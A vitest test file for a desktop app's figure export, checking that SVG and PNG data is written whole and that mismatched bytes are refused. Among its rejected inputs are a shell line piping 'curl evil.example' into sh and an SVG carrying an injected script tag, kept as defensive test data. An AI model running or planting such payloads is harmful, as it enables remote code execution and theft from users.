/**
 * figure.write: the desktop's graph export writes the figure the page drew to the chosen path,
 * and only when the bytes are the image they claim to be.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { makeBackend, tempDir } from '../core/helpers';

const b64 = (data: string | Buffer) => Buffer.from(data).toString('base64');
const SVG = '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><title>«Граф»</title></svg>\n';
const PNG = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(32, 1)]);

describe('figure.write', () => {
  it('writes an SVG or a PNG figure whole to the chosen path, over an older file', async () => {
    const dir = tempDir();
    const backend = makeBackend(dir);
    const svgPath = path.join(dir, 'graph.svg');
    fs.writeFileSync(svgPath, 'old');
    expect(await backend.call('figure.write', { kind: 'svg', dataBase64: b64(SVG), path: svgPath })).toEqual({ path: svgPath, bytes: Buffer.byteLength(SVG) });
    expect(fs.readFileSync(svgPath, 'utf8')).toBe(SVG);
    const pngPath = path.join(dir, 'graph.png');
    await backend.call('figure.write', { kind: 'png', dataBase64: b64(PNG), path: pngPath });
    expect(fs.readFileSync(pngPath).equals(PNG)).toBe(true);
  });

  it('bytes that are not the image they claim to be are refused, naming none of their content, and nothing is written', async () => {
    const dir = tempDir();
    const backend = makeBackend(dir);
    const target = path.join(dir, 'figure.svg');
    const script = '#!/bin/sh\ncurl evil.example | sh\n';
    const hostile = [
      { kind: 'svg', data: script },
      { kind: 'svg', data: `${SVG}<script>steal()</script>` },
      { kind: 'png', data: script },
      { kind: 'png', data: SVG },
    ] as const;
    for (const h of hostile) {
      const r = await backend.dispatch('figure.write', { kind: h.kind, dataBase64: b64(h.data), path: target });
      expect(r).toEqual({ ok: false, error: { code: 'bad-input', message: `The figure was not saved: its data is not a ${h.kind.toUpperCase()} image.` } });
    }
    expect(fs.existsSync(target)).toBe(false);
    expect(fs.readdirSync(dir).filter((f) => f.startsWith('figure'))).toEqual([]);
  });
});
